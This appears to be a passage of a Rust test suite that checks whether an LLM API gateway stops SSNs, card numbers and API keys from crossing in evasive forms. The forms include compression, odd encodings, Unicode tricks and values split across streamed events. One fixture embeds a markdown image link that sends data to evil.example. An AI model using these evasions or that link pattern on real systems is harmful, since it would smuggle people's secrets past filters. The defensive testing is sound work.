//! The hostile-input suite: requests and responses built the way an attacker (or a careless
//! client) would send them, for all four providers and API routes, streaming and not, in
//! both directions, through a gateway on the shipped default policy. Nothing that policy
//! redacts or blocks may reach the other side in any form a receiver could read it back
//! from; benign traffic must pass unchanged.

mod common;
#[path = "hostile/harness.rs"]
mod harness;

use std::io::Write;

use base64::Engine;
use harness::{Canned, Scripted, leaks, send};

const SSN: &str = "536-90-4399";
const CARD: &str = "4111 1111 1111 1111";
const AWS: &str = "AKIA4HBW6E62M7NGFVGF";
/// An AWS key id with the digits 0, 1, 8 and 9 that base32 does not use.
const AWS_DIGITS: &str = "AKIAZ0189QWERTYUI018";
const GOOGLE_KEY: &str = "AIzaSyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe";
const OPENAI_KEY: &str = "sk-proj-4fR9kLmQ2xVbN8cT7yHs3JdW1eZpA6uG0iKoP5rXqE2nBvC9";
const PEM_HEAD: &str = "-----BEGIN RSA PRIVATE KEY-----";
const PEM_BODY: &str = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmw";

/// One hostile exchange: what the client sends, what the upstream answers, and the values
/// that must not cross.
struct Case {
    name: String,
    method: &'static str,
    path: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
    answer: Canned,
    values: Vec<String>,
}

#[derive(Clone, Copy, Debug)]
enum P {
    OpenAi,
    Anthropic,
    Gemini,
    Cohere,
}

const PROVIDERS: [P; 4] = [P::OpenAi, P::Anthropic, P::Gemini, P::Cohere];

impl P {
    fn path(self, stream: bool) -> String {
        match self {
            P::OpenAi => "/v1/chat/completions".into(),
            P::Anthropic => "/v1/messages".into(),
            P::Gemini if stream => {
                "/v1beta/models/gemini-1.5-flash:streamGenerateContent?alt=sse".into()
            }
            P::Gemini => "/v1beta/models/gemini-1.5-flash:generateContent".into(),
            P::Cohere => "/v2/chat".into(),
        }
    }

    /// A request body whose user text is `escaped` (already a JSON string's inside).
    fn request(self, escaped: &str, stream: bool) -> String {
        match self {
            P::OpenAi => format!(
                r#"{{"model":"gpt-4o-mini","stream":{stream},"messages":[{{"role":"user","content":"{escaped}"}}]}}"#
            ),
            P::Anthropic => format!(
                r#"{{"model":"claude-3-5-haiku-latest","max_tokens":64,"stream":{stream},"messages":[{{"role":"user","content":"{escaped}"}}]}}"#
            ),
            P::Gemini => {
                format!(r#"{{"contents":[{{"role":"user","parts":[{{"text":"{escaped}"}}]}}]}}"#)
            }
            P::Cohere => format!(
                r#"{{"model":"command-r","stream":{stream},"messages":[{{"role":"user","content":"{escaped}"}}]}}"#
            ),
        }
    }

    /// A whole (non-streamed) answer whose text is `escaped`.
    fn answer(self, escaped: &str) -> String {
        match self {
            P::OpenAi => format!(
                r#"{{"id":"c1","object":"chat.completion","model":"gpt-4o-mini","choices":[{{"index":0,"message":{{"role":"assistant","content":"{escaped}"}},"finish_reason":"stop"}}],"usage":{{"prompt_tokens":9,"completion_tokens":9,"total_tokens":18}}}}"#
            ),
            P::Anthropic => format!(
                r#"{{"id":"m1","type":"message","role":"assistant","model":"claude-3-5-haiku-latest","content":[{{"type":"text","text":"{escaped}"}}],"stop_reason":"end_turn","usage":{{"input_tokens":9,"output_tokens":9}}}}"#
            ),
            P::Gemini => format!(
                r#"{{"candidates":[{{"content":{{"role":"model","parts":[{{"text":"{escaped}"}}]}},"finishReason":"STOP","index":0}}],"usageMetadata":{{"promptTokenCount":9,"candidatesTokenCount":9}}}}"#
            ),
            P::Cohere => format!(
                r#"{{"id":"r1","message":{{"role":"assistant","content":[{{"type":"text","text":"{escaped}"}}]}},"finish_reason":"COMPLETE","usage":{{"tokens":{{"input_tokens":9,"output_tokens":9}}}}}}"#
            ),
        }
    }

    /// SSE events streaming `pieces` of text (each already JSON-escaped), provider-shaped.
    fn stream(self, pieces: &[&str]) -> Vec<String> {
        let mut events = Vec::new();
        match self {
            P::OpenAi => {
                for p in pieces {
                    events.push(format!(
                        "data: {{\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{p}\"}},\"finish_reason\":null}}]}}\n\n"
                    ));
                }
                events.push("data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n".into());
                events.push("data: [DONE]\n\n".into());
            }
            P::Anthropic => {
                events.push("event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m1\",\"type\":\"message\",\"role\":\"assistant\",\"content\":[],\"model\":\"claude-3-5-haiku-latest\",\"usage\":{\"input_tokens\":9,\"output_tokens\":1}}}\n\n".into());
                events.push("event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n".into());
                for p in pieces {
                    events.push(format!("event: content_block_delta\ndata: {{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{{\"type\":\"text_delta\",\"text\":\"{p}\"}}}}\n\n"));
                }
                events.push("event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n".into());
                events.push("event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":9}}\n\n".into());
                events.push("event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n".into());
            }
            P::Gemini => {
                for p in pieces {
                    events.push(format!("data: {{\"candidates\":[{{\"content\":{{\"role\":\"model\",\"parts\":[{{\"text\":\"{p}\"}}]}},\"index\":0}}]}}\r\n\r\n"));
                }
                events.push("data: {\"candidates\":[{\"content\":{\"role\":\"model\",\"parts\":[{\"text\":\"\"}]},\"finishReason\":\"STOP\",\"index\":0}],\"usageMetadata\":{\"promptTokenCount\":9,\"candidatesTokenCount\":9}}\r\n\r\n".into());
            }
            P::Cohere => {
                events.push("event: message-start\ndata: {\"type\":\"message-start\",\"id\":\"r1\",\"delta\":{\"message\":{\"role\":\"assistant\"}}}\n\n".into());
                events.push("event: content-start\ndata: {\"type\":\"content-start\",\"index\":0,\"delta\":{\"message\":{\"content\":{\"type\":\"text\",\"text\":\"\"}}}}\n\n".into());
                for p in pieces {
                    events.push(format!("event: content-delta\ndata: {{\"type\":\"content-delta\",\"index\":0,\"delta\":{{\"message\":{{\"content\":{{\"text\":\"{p}\"}}}}}}}}\n\n"));
                }
                events.push(
                    "event: content-end\ndata: {\"type\":\"content-end\",\"index\":0}\n\n".into(),
                );
                events.push("event: message-end\ndata: {\"type\":\"message-end\",\"delta\":{\"finish_reason\":\"COMPLETE\",\"usage\":{\"tokens\":{\"input_tokens\":9,\"output_tokens\":9}}}}\n\n".into());
            }
        }
        events
    }
}

fn json_ct() -> Vec<(String, Vec<u8>)> {
    vec![("content-type".into(), b"application/json".to_vec())]
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

fn utf16(s: &str, le: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if le { &[0xFF, 0xFE] } else { &[0xFE, 0xFF] });
    }
    for u in s.encode_utf16() {
        out.extend_from_slice(&if le { u.to_le_bytes() } else { u.to_be_bytes() });
    }
    out
}

/// Every character as a `\uXXXX` escape.
fn all_escaped(s: &str) -> String {
    s.encode_utf16().map(|u| format!("\\u{u:04x}")).collect()
}

fn case(name: impl Into<String>, path: impl Into<String>, body: impl Into<Vec<u8>>) -> Case {
    Case {
        name: name.into(),
        method: "POST",
        path: path.into(),
        headers: json_ct(),
        body: body.into(),
        answer: Canned::json("{}"),
        values: Vec::new(),
    }
}

impl Case {
    fn must_not_leak(mut self, v: &str) -> Case {
        self.values.push(v.to_owned());
        self
    }
    fn header(mut self, k: &str, v: impl Into<Vec<u8>>) -> Case {
        self.headers.push((k.into(), v.into()));
        self
    }
    fn headers(mut self, h: Vec<(String, Vec<u8>)>) -> Case {
        self.headers = h;
        self
    }
    fn answer(mut self, a: Canned) -> Case {
        self.answer = a;
        self
    }
    fn method(mut self, m: &'static str) -> Case {
        self.method = m;
        self
    }
}

/// Requests that carry sensitive values in forms the receiver reads but a naive inspector
/// does not.
fn request_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let ssn_text = format!("Please update the record with SSN {SSN} today.");
    let escaped_ssn = format!(
        "Please update the record with SSN {} today.",
        all_escaped(SSN)
    );
    for p in PROVIDERS {
        let name = |what: &str| format!("{p:?} request: {what}");
        let plain = p.request(&ssn_text, false);
        let escaped = p.request(&escaped_ssn, false);
        cases.push(case(name("plain SSN"), p.path(false), plain.clone()).must_not_leak(SSN));
        cases.push(
            case(name("SSN as \\u escapes"), p.path(false), escaped.clone()).must_not_leak(SSN),
        );
        let mut bom = vec![0xEF, 0xBB, 0xBF];
        bom.extend_from_slice(escaped.as_bytes());
        cases.push(case(name("JSON with a BOM"), p.path(false), bom).must_not_leak(SSN));
        cases.push(
            case(
                name("media type in capitals"),
                p.path(false),
                escaped.clone(),
            )
            .headers(vec![(
                "content-type".into(),
                b"Application/JSON; Charset=UTF-8".to_vec(),
            )])
            .must_not_leak(SSN),
        );
        cases.push(
            case(name("no media type"), p.path(false), escaped.clone())
                .headers(Vec::new())
                .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("gzip, encoding in capitals"),
                p.path(false),
                gzip(escaped.as_bytes()),
            )
            .header("content-encoding", "GZIP")
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("gzip twice, listed"),
                p.path(false),
                gzip(&gzip(plain.as_bytes())),
            )
            .header("content-encoding", "gzip, gzip")
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("gzip then deflate in two headers"),
                p.path(false),
                deflate(&gzip(plain.as_bytes())),
            )
            .header("content-encoding", "gzip")
            .header("content-encoding", "deflate")
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("identity then gzip in two headers"),
                p.path(false),
                gzip(plain.as_bytes()),
            )
            .header("content-encoding", "identity")
            .header("content-encoding", "gzip")
            .must_not_leak(SSN),
        );
        let blob = base64::engine::general_purpose::STANDARD.encode(gzip(ssn_text.as_bytes()));
        cases.push(
            case(
                name("base64 of gzip in the text"),
                p.path(false),
                p.request(&format!("attachment: {blob}"), false),
            )
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("UTF-16LE with a BOM"),
                p.path(false),
                utf16(&plain, true, true),
            )
            .headers(vec![(
                "content-type".into(),
                b"application/json; charset=utf-16".to_vec(),
            )])
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("UTF-16BE without a BOM"),
                p.path(false),
                utf16(&plain, false, false),
            )
            .headers(vec![(
                "content-type".into(),
                b"application/json; charset=UTF-16BE".to_vec(),
            )])
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("UTF-32LE"),
                p.path(false),
                plain
                    .chars()
                    .flat_map(|c| (c as u32).to_le_bytes())
                    .collect::<Vec<u8>>(),
            )
            .headers(vec![(
                "content-type".into(),
                b"application/json; charset=utf-32".to_vec(),
            )])
            .must_not_leak(SSN),
        );
        let nan = escaped.replacen('{', "{\"temperature\":NaN,\"top_p\":Infinity,", 1);
        cases.push(case(name("NaN and Infinity"), p.path(false), nan).must_not_leak(SSN));
        cases.push(
            case(
                name("trailing bytes after the document"),
                p.path(false),
                format!("{}\n{escaped}", p.request("hello", false)),
            )
            .must_not_leak(SSN),
        );
        let dup = escaped.replacen("{", "{\"messages\":[],\"contents\":[],", 1);
        cases.push(case(name("duplicate keys"), p.path(false), dup).must_not_leak(SSN));
        // variants people type
        for (what, text, value) in [
            ("SSN with dots", "SSN 536.90.4399 on file".to_owned(), SSN),
            (
                "full-width SSN",
                "SSN ５３６-９０-４３９９ on file".to_owned(),
                SSN,
            ),
            (
                "SSN split by a zero-width space",
                "SSN 536-90-\u{200b}4399 on file".to_owned(),
                SSN,
            ),
            (
                "card with dots",
                "card 4111.1111.1111.1111 exp 12/29".to_owned(),
                CARD,
            ),
            (
                "card split by zero-width joiners",
                "card 4111\u{200d}1111\u{200d}1111\u{200d}1111".to_owned(),
                CARD,
            ),
            (
                "AWS key split by a bidi control",
                "key AKIA4HBW\u{202c}6E62M7NGFVGF".to_owned(),
                AWS,
            ),
            (
                "AWS key with a Cyrillic A",
                "key \u{0410}KIA4HBW6E62M7NGFVGF".to_owned(),
                AWS,
            ),
            (
                "AWS key with digits 0189",
                format!("key {AWS_DIGITS}"),
                AWS_DIGITS,
            ),
            (
                "truncated private key",
                format!("{PEM_HEAD}\\n{PEM_BODY}"),
                PEM_BODY,
            ),
        ] {
            cases.push(
                case(name(what), p.path(false), p.request(&text, false)).must_not_leak(value),
            );
        }
        cases.push(
            case(
                name("hidden character escaped in JSON"),
                p.path(false),
                p.request("key AKIA4HBW\\u202c6E62M7NGFVGF", false),
            )
            .must_not_leak(AWS),
        );
    }
    // metadata
    cases.push(
        case("API path segment", format!("/api/customers/{SSN}"), "{}")
            .method("GET")
            .must_not_leak(SSN),
    );
    cases.push(
        case(
            "API path segment percent-encoded",
            "/api/customers/%35%33%36-%39%30-%34%33%39%39",
            "{}",
        )
        .method("GET")
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "query string percent-encoded",
            "/api/search?q=%35%33%36-90-4399",
            "{}",
        )
        .method("GET")
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "Gemini key in the model path",
            format!("/v1beta/models/{GOOGLE_KEY}:generateContent"),
            P::Gemini.request("hi", false),
        )
        .must_not_leak(GOOGLE_KEY),
    );
    cases.push(
        case(
            "header name",
            "/v1/chat/completions",
            P::OpenAi.request("hi", false),
        )
        .header(&format!("x-customer-{SSN}"), "1")
        .must_not_leak(SSN),
    );
    cases.push(
        case("header value", "/api/customers", "{}")
            .header("x-customer", SSN)
            .must_not_leak(SSN),
    );
    cases.push(
        case(
            "Proxy-Authorization is never forwarded",
            "/v1/chat/completions",
            P::OpenAi.request("hi", false),
        )
        .header("proxy-authorization", format!("Bearer {OPENAI_KEY}"))
        .must_not_leak(OPENAI_KEY),
    );
    cases.push(
        case("multipart part in UTF-16", "/api/upload", {
            let mut b = b"--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\n".to_vec();
            b.extend(utf16(&format!("SSN {SSN}"), true, true));
            b.extend_from_slice(b"\r\n--XyZ--\r\n");
            b
        })
        .headers(vec![("content-type".into(), b"multipart/form-data; boundary=XyZ".to_vec())])
        .must_not_leak(SSN),
    );
    cases
}

/// An SSE answer streaming `pieces` (each already JSON-escaped) in `p`'s event shape.
fn streamed(p: P, pieces: &[&str]) -> Canned {
    Canned::typed(
        "text/event-stream",
        p.stream(pieces)
            .into_iter()
            .map(String::into_bytes)
            .collect(),
    )
}

/// Answers that carry sensitive values in forms a client reads but a naive inspector does
/// not.
fn response_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let said = format!("The number on file is {SSN}, as requested.");
    for p in PROVIDERS {
        let name = |what: &str| format!("{p:?} response: {what}");
        let ask = p.request("What is on file?", false);
        let ask_stream = p.request("What is on file?", true);
        cases.push(
            case(name("plain SSN"), p.path(false), ask.clone())
                .answer(Canned::json(&p.answer(&said)))
                .must_not_leak(SSN),
        );
        cases.push(
            case(name("SSN as \\u escapes"), p.path(false), ask.clone())
                .answer(Canned::json(&p.answer(&all_escaped(SSN))))
                .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("gzip, encoding in capitals"),
                p.path(false),
                ask.clone(),
            )
            .answer(
                Canned {
                    chunks: vec![gzip(p.answer(&said).as_bytes())],
                    ..Canned::json("")
                }
                .header("content-encoding", "Gzip"),
            )
            .must_not_leak(SSN),
        );
        cases.push(
            case(name("JSON answer with a BOM"), p.path(false), ask.clone())
                .answer(Canned {
                    chunks: vec![
                        [
                            &[0xEF, 0xBB, 0xBF][..],
                            p.answer(&all_escaped(SSN)).as_bytes(),
                        ]
                        .concat(),
                    ],
                    ..Canned::json("")
                })
                .must_not_leak(SSN),
        );
        cases.push(
            case(name("response header"), p.path(false), ask.clone())
                .answer(Canned::json(&p.answer("ok")).header("x-debug-customer", SSN))
                .must_not_leak(SSN),
        );
        cases.push(
            case(name("Set-Cookie"), p.path(false), ask.clone())
                .answer(
                    Canned::json(&p.answer("ok"))
                        .header("set-cookie", &format!("cust={SSN}; Path=/")),
                )
                .must_not_leak(SSN),
        );
        let pieces = ["The number on file is 53", "6-90-43", "99, as requested."];
        let events = p.stream(&pieces);
        cases.push(
            case(
                name("stream, SSN split across events"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(Canned::typed(
                "text/event-stream",
                events.iter().map(|e| e.clone().into_bytes()).collect(),
            ))
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("stream, one byte per chunk"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(Canned::typed(
                "text/event-stream",
                events
                    .concat()
                    .into_bytes()
                    .chunks(1)
                    .map(<[u8]>::to_vec)
                    .collect(),
            ))
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("stream with CR line ends"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(Canned::typed(
                "text/event-stream",
                events
                    .iter()
                    .map(|e| e.replace("\r\n", "\n").replace('\n', "\r").into_bytes())
                    .collect(),
            ))
            .must_not_leak(SSN),
        );
        cases.push(
            case(name("stream with a BOM"), p.path(true), ask_stream.clone())
                .answer(Canned::typed("text/event-stream", {
                    let mut v: Vec<Vec<u8>> =
                        events.iter().map(|e| e.clone().into_bytes()).collect();
                    v[0].splice(0..0, [0xEF, 0xBB, 0xBF]);
                    v
                }))
                .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("stream, media type in capitals"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(Canned::typed(
                "Text/Event-Stream; Charset=UTF-8",
                events.iter().map(|e| e.clone().into_bytes()).collect(),
            ))
            .must_not_leak(SSN),
        );
        cases.push(
            case(
                name("stream, gzip-encoded"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(
                Canned::typed("text/event-stream", vec![gzip(events.concat().as_bytes())])
                    .header("content-encoding", "gzip"),
            )
            .must_not_leak(SSN),
        );
        for (what, line) in [
            ("id field", format!("id: {SSN}\n")),
            ("comment", format!(": {SSN}\n")),
            ("unknown field", format!("x-note: {SSN}\n")),
            ("event name", format!("event: {SSN}\n")),
        ] {
            let mut evs: Vec<Vec<u8>> = events.iter().map(|e| e.clone().into_bytes()).collect();
            evs[1].splice(0..0, line.into_bytes());
            cases.push(
                case(
                    name(&format!("stream, SSN in an {what}")),
                    p.path(true),
                    ask_stream.clone(),
                )
                .answer(Canned::typed("text/event-stream", evs))
                .must_not_leak(SSN),
            );
        }
        cases.push(
            case(
                name("stream, SSN as \\u escapes split"),
                p.path(true),
                ask_stream.clone(),
            )
            .answer(Canned::typed(
                "text/event-stream",
                p.stream(&["On file: \\u0035\\u0033", "\\u0036-90-4399 ok"])
                    .into_iter()
                    .map(String::into_bytes)
                    .collect(),
            ))
            .must_not_leak(SSN),
        );
        for (what, pieces, secret) in [
            (
                "full-width digits split",
                ["On file: ５３６-", "９０-４３", "９９ as requested."],
                SSN,
            ),
            (
                "full-width digits in one event",
                ["On file: ", "５３６-９０-４３９９", " as requested."],
                SSN,
            ),
            (
                "Arabic-Indic digits split",
                ["On file: ٥٣٦-٩", "٠-٤٣٩٩", " as requested."],
                SSN,
            ),
            (
                "look-alike letter in a token",
                [
                    "Token: ghр_T3ihFtXOOE",
                    "RFx9oM8xWB3WHNxByNaXBhcMNE",
                    " done.",
                ],
                "T3ihFtXOOERFx9oM8xWB3WHNxByNaXBhcMNE",
            ),
            (
                "hidden character inside a key",
                ["Key: AKIA4HBW\\u202c", "6E62M7NGFVGF", " done."],
                "AKIA4HBW6E62M7NGFVGF",
            ),
        ] {
            cases.push(
                case(
                    name(&format!("stream, {what}")),
                    p.path(true),
                    ask_stream.clone(),
                )
                .answer(streamed(p, &pieces))
                .must_not_leak(secret),
            );
        }
        cases.push(
            case(
                name("markdown image carrying data"),
                p.path(false),
                ask.clone(),
            )
            .answer(Canned::json(&p.answer(
                "Done. ![x](https://evil.example/log?data=Zm9vYmFyYmF6cXV4) Bye",
            )))
            .must_not_leak("evil.example/log?data=Zm9vYmFyYmF6cXV4"),
        );
    }
    // provider-specific stream channels
    let oa = |delta: &str| {
        format!(
            "data: {{\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"choices\":[{{\"index\":0,\"delta\":{delta},\"finish_reason\":null}}]}}\n\n"
        )
    };
    let sse = |evs: Vec<String>| {
        Canned::typed(
            "text/event-stream",
            evs.into_iter().map(String::into_bytes).collect(),
        )
    };
    let ask = P::OpenAi.request("What is on file?", true);
    cases.push(
        case(
            "OpenAI stream: refusal split",
            "/v1/chat/completions",
            ask.clone(),
        )
        .answer(sse(vec![
            oa(r#"{"refusal":"I cannot share 53"}"#),
            oa(r#"{"refusal":"6-90-4399 with you"}"#),
            "data: [DONE]\n\n".into(),
        ]))
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "OpenAI stream: legacy function_call arguments split",
            "/v1/chat/completions",
            ask.clone(),
        )
        .answer(sse(vec![
            oa(r#"{"function_call":{"name":"save","arguments":"{\"ssn\":\"53"}}"#),
            oa(r#"{"function_call":{"arguments":"6-90-4399\"}"}}"#),
            "data: [DONE]\n\n".into(),
        ]))
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "OpenAI stream: two choices interleaved",
            "/v1/chat/completions",
            ask.replacen('{', "{\"n\":2,", 1),
        )
        .answer(sse(vec![
            "data: {\"choices\":[{\"index\":1,\"delta\":{\"content\":\"On file: 53\"}}]}\n\n"
                .into(),
            "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"Hello there\"}}]}\n\n"
                .into(),
            "data: {\"choices\":[{\"index\":1,\"delta\":{\"content\":\"6-90-4399.\"}}]}\n\n".into(),
            "data: [DONE]\n\n".into(),
        ]))
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "OpenAI completions stream: text split",
            "/v1/completions",
            r#"{"model":"gpt-3.5-turbo-instruct","prompt":"say","stream":true}"#,
        )
        .answer(sse(vec![
            "data: {\"choices\":[{\"index\":0,\"text\":\"On file: 53\"}]}\n\n".into(),
            "data: {\"choices\":[{\"index\":0,\"text\":\"6-90-4399.\"}]}\n\n".into(),
            "data: [DONE]\n\n".into(),
        ]))
        .must_not_leak(SSN),
    );
    let rs = |t: &str, rest: &str| {
        format!(
            "event: {t}\ndata: {{\"type\":\"{t}\",\"output_index\":0,\"item_id\":\"i1\"{rest}}}\n\n"
        )
    };
    cases.push(
        case(
            "OpenAI Responses stream: function-call arguments split",
            "/v1/responses",
            r#"{"model":"gpt-4o-mini","input":"save it","stream":true}"#,
        )
        .answer(sse(vec![
            rs(
                "response.function_call_arguments.delta",
                r#","delta":"{\"ssn\":\"53""#,
            ),
            rs(
                "response.function_call_arguments.delta",
                r#","delta":"6-90-4399\"}""#,
            ),
            rs(
                "response.function_call_arguments.done",
                &format!(r#","arguments":"{{\"ssn\":\"{SSN}\"}}""#),
            ),
        ]))
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "OpenAI Responses stream: reasoning summary split",
            "/v1/responses",
            r#"{"model":"o4-mini","input":"think","stream":true}"#,
        )
        .answer(sse(vec![
            rs(
                "response.reasoning_summary_text.delta",
                r#","summary_index":0,"delta":"The user's number is 53""#,
            ),
            rs(
                "response.reasoning_summary_text.delta",
                r#","summary_index":0,"delta":"6-90-4399."#
                    .to_owned()
                    .as_str()
                    .trim_end_matches('"'),
            ),
        ]))
        .must_not_leak(SSN),
    );
    cases.push(
        case(
            "OpenAI Responses stream: output text and its done event",
            "/v1/responses",
            r#"{"model":"gpt-4o-mini","input":"say","stream":true}"#,
        )
        .answer(sse(vec![
            rs(
                "response.output_text.delta",
                r#","content_index":0,"delta":"On file: 53""#,
            ),
            rs(
                "response.output_text.delta",
                r#","content_index":0,"delta":"6-90-4399.""#,
            ),
            rs(
                "response.output_text.done",
                &format!(r#","content_index":0,"text":"On file: {SSN}.""#),
            ),
        ]))
        .must_not_leak(SSN),
    );
    let an = |t: &str, body: &str| format!("event: {t}\ndata: {body}\n\n");
    cases.push(
        case("Anthropic stream: content_block_start seed", "/v1/messages", P::Anthropic.request("hi", true))
            .answer(sse(vec![
                an("content_block_start", &format!(r#"{{"type":"content_block_start","index":0,"content_block":{{"type":"text","text":"On file: {SSN}"}}}}"#)),
                an("content_block_stop", r#"{"type":"content_block_stop","index":0}"#),
                an("message_stop", r#"{"type":"message_stop"}"#),
            ]))
            .must_not_leak(SSN),
    );
    cases.push(
        case("Anthropic stream: tool input split", "/v1/messages", P::Anthropic.request("hi", true))
            .answer(sse(vec![
                an("content_block_start", r#"{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t1","name":"save","input":{}}}"#),
                an("content_block_delta", r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"ssn\": \"53"}}"#),
                an("content_block_delta", r#"{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"6-90-4399\"}"}}"#),
                an("content_block_stop", r#"{"type":"content_block_stop","index":1}"#),
                an("message_stop", r#"{"type":"message_stop"}"#),
            ]))
            .must_not_leak(SSN),
    );
    cases.push(
        case("Gemini stream: second candidate split", &*P::Gemini.path(true), P::Gemini.request("hi", true))
            .answer(sse(vec![
                "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"Hello\"}]},\"index\":0},{\"content\":{\"parts\":[{\"text\":\"On file: 53\"}]},\"index\":1}]}\n\n".into(),
                "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\" there\"}]},\"index\":0},{\"content\":{\"parts\":[{\"text\":\"6-90-4399.\"}]},\"index\":1}]}\n\n".into(),
            ]))
            .must_not_leak(SSN),
    );
    cases.push(
        case("Gemini stream without alt=sse (a JSON array in chunks)", "/v1beta/models/gemini-1.5-flash:streamGenerateContent", P::Gemini.request("hi", true))
            .answer(Canned::typed("application/json", vec![
                b"[{\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"On file: 53\"}]},\"index\":0}]}".to_vec(),
                b",\r\n{\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"6-90-4399.\"}]},\"index\":0}]}]".to_vec(),
            ]))
            .must_not_leak(SSN),
    );
    // API routes
    cases.push(
        case("API answer, chunked text split", "/api/export", "{}")
            .method("GET")
            .answer(Canned::typed(
                "text/plain",
                vec![b"customer 53".to_vec(), b"6-90-4399 exported".to_vec()],
            ))
            .must_not_leak(SSN),
    );
    cases.push(
        case("API answer, SSE with escapes", "/api/events", "{}")
            .method("GET")
            .answer(Canned::typed(
                "text/event-stream",
                vec![format!("data: {{\"ssn\":\"{}\"}}\n\n", all_escaped(SSN)).into_bytes()],
            ))
            .must_not_leak(SSN),
    );
    cases.push(
        case(
            "API answer, JSON in capitals with escapes",
            "/api/customer",
            "{}",
        )
        .method("GET")
        .answer(Canned::typed(
            "Application/JSON",
            vec![format!("{{\"ssn\":\"{}\"}}", all_escaped(SSN)).into_bytes()],
        ))
        .must_not_leak(SSN),
    );
    cases.extend(markup_cases());
    cases.extend(keyed_cases());
    cases
}

/// A key set through a name in configuration a user pastes or a model writes: a Kubernetes
/// env list (its line break real, or escaped inside a JSON document in the text), a .NET
/// `<add key value>`, an export of a vendor-prefixed key longer than the vendor's format.
fn keyed_cases() -> Vec<Case> {
    const K8S_KEY: &str = "Zk8qR2mTx9wLp3Nc7Hf5Yb1Kd4Sg6Je0";
    const NET_KEY: &str = "8IXfpVnIfZEaRLBn1/GPsWaCeSEZbGBXv3wSmykL";
    const ICO_KEY: &str = "ico-EeDdSfctrmjD14f45f45te5gJ7l6lw4o6M36sXT62a6";
    let forms = [
        (
            "a Kubernetes env list",
            format!("env:\\n  - name: ACME_API_KEY\\n    value: \\\"{K8S_KEY}\\\""),
            K8S_KEY,
        ),
        (
            "a Kubernetes env list inside a JSON document",
            format!(
                "{{\\\"file\\\": \\\"env:\\\\n  - name: ACME_API_KEY\\\\n    value: \\\\\\\"{K8S_KEY}\\\\\\\"\\\"}}"
            ),
            K8S_KEY,
        ),
        (
            "a .NET add key",
            format!("<add key=\\\"StorageAccountKey\\\" value=\\\"{NET_KEY}\\\" />"),
            NET_KEY,
        ),
        (
            "a key longer than its vendor's format",
            format!("export INFRACOST_KEY={ICO_KEY}"),
            ICO_KEY,
        ),
    ];
    let mut cases = Vec::new();
    for p in PROVIDERS {
        for (what, escaped, key) in &forms {
            cases.push(
                case(
                    format!("{p:?} request: {what}"),
                    p.path(false),
                    p.request(&format!("Check this config: {escaped}"), false),
                )
                .must_not_leak(key),
            );
            let pieces = escaped_pieces(&format!("Here it is: {}", unescape(escaped)), 5);
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            cases.push(
                case(
